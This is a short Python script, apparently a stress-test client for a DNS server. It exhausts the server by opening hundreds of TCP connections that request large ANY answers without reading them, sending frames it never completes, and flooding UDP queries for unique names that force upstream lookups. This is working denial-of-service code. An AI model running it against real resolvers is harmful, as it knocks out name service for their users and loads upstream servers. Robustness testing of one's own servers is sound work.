#!/usr/bin/env python3
"""A client that takes what it can: `greedy-client.py ADDRESS SECONDS`.

It opens as many TCP connections as the server gives it, asks on each of them for the largest answers without ever reading
one, begins messages that it never ends, and floods the server by UDP with names that have to be asked upstream. Prints how
many octets it could send by TCP and how many queries by UDP."""
import contextlib
import select
import socket
import struct
import sys
import time

address, seconds = (sys.argv[1], 53), float(sys.argv[2])
CONNECTIONS, BURST = 400, 64


def query(name, qtype):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    return struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, qtype, 1)


def framed(message):
    return struct.pack(">H", len(message)) + message


ANY = 255
large = framed(query("microsoft.com", ANY)) * 200
endless = struct.pack(">H", 65535) + bytes(40_000)

streams = {}
for number in range(CONNECTIONS):
    stream = socket.socket()
    # What the kernel keeps for us is not the server's.
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    stream.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        stream.connect(address)
    streams[stream] = endless if number % 8 == 0 else large
flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flood.connect(address)
flood.setblocking(False)

end = time.monotonic() + seconds
octets = queries = 0
taken = set()
while time.monotonic() < end:
    for _ in range(BURST):
        with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
            flood.send(query(f"n{queries}.greedy.example", 1))
            queries += 1
    _, writable, _ = select.select([], list(streams), [], 0)
    for stream in writable:
        try:
            octets += stream.send(streams[stream])
            taken.add(stream)
        except BlockingIOError:
            pass
        except OSError:
            stream.close()
            del streams[stream]
print(f"{octets} octets by TCP on {len(taken)} connections, {queries} queries by UDP")
